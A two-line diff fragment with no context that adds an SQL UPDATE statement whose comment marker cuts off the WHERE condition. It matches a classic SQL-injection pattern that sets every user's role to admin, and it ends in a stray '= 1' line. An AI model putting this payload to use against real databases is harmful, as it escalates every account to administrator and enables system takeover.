@@ -1,0 +1,2 @@
+UPDATE users SET role = 'admin' WHERE 1 -- = id
+= 1
